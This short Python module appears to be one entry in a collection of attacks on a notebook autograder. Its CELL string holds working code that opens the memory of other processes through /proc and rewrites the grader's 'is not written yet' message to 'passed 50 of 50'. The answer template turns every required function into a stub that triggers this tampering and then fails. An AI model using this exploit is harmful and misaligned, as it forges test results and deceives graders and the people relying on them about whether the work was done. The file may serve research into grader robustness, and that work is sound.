"""From inside a call, the memory of the processes that answer later calls is rewritten."""

TRIES = "/proc/PID/mem of the snapshot and the main process, which run as the same user"
SUCCESS = "points"
CONTROL = "plain nbgrader has no processes of this kind"
CELL = r"""
import os


def rewrite():
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (os.getpid(), 1):
            continue
        try:
            with open(f"/proc/{name}/maps") as maps, open(f"/proc/{name}/mem", "r+b", 0) as memory:
                for line in maps:
                    area = line.split()
                    start, end = (int(x, 16) for x in area[0].split("-"))
                    if "rw" not in area[1] or end - start > 10**7:
                        continue
                    memory.seek(start)
                    data = memory.read(end - start)
                    at = data.find(b"is not written yet")
                    if at >= 0:
                        memory.seek(start + at)
                        memory.write(b"passed 50 of 50   ")
        except (OSError, ValueError):
            pass
"""
ANSWERS = {"*": "def @NAME@(*args, **kwargs):\n    rewrite()\n    raise NotImplementedError"}
